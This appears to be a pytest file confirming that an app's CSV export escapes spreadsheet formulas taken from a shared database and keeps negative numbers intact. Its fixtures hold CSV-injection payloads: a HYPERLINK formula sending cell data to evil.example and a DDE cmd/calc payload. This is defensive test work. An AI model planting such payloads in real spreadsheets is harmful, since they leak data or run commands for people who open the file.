"""CSV export of a shared history: a colleague's database whose texts are
spreadsheet formulas exports as inert cells (OWASP CSV injection: a leading apostrophe), read
back through the real CLI; plain numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv

from app.cli import main
from app.core.types import Evaluation
from app.goal import Goal
from app.store import Store

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def test_formulas_from_a_shared_database_are_neutralised(tmp_path, capsys):
    db = tmp_path / "shared.sqlite"
    with Store(db) as store:  # the colleague's planted database
        run_id = store.create_run(Goal(name="g", space="s.json"), {})
        store.record_evaluation(run_id, 1, Evaluation(
            key="+cmd|' /C calc'!A0", config={"@SUM(1+1)": "-2+3", "offset": -4, "bias": "-1.5"},
            ok=False, reason="verification_failed", detail=FORMULA, agent="\t=1+1",
            metrics={"-x": -0.25}), 0.1, 1.0)
    out = tmp_path / "runs.csv"
    assert main(["export", str(run_id), "--db", str(db), "--format", "csv", "-o", str(out)]) == 0
    capsys.readouterr()
    with open(out, newline="") as f:
        table = list(csv.reader(f))
    cells = [c for row in table for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not _number(c)], cells
    row = dict(zip(table[0], table[1]))
    assert row["detail"] == "'" + FORMULA and row["'@SUM(1+1)"] == "'-2+3"
    assert row["offset"] == "-4" and row["bias"] == "-1.5" and row["metric_-x"] == "-0.25"


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False
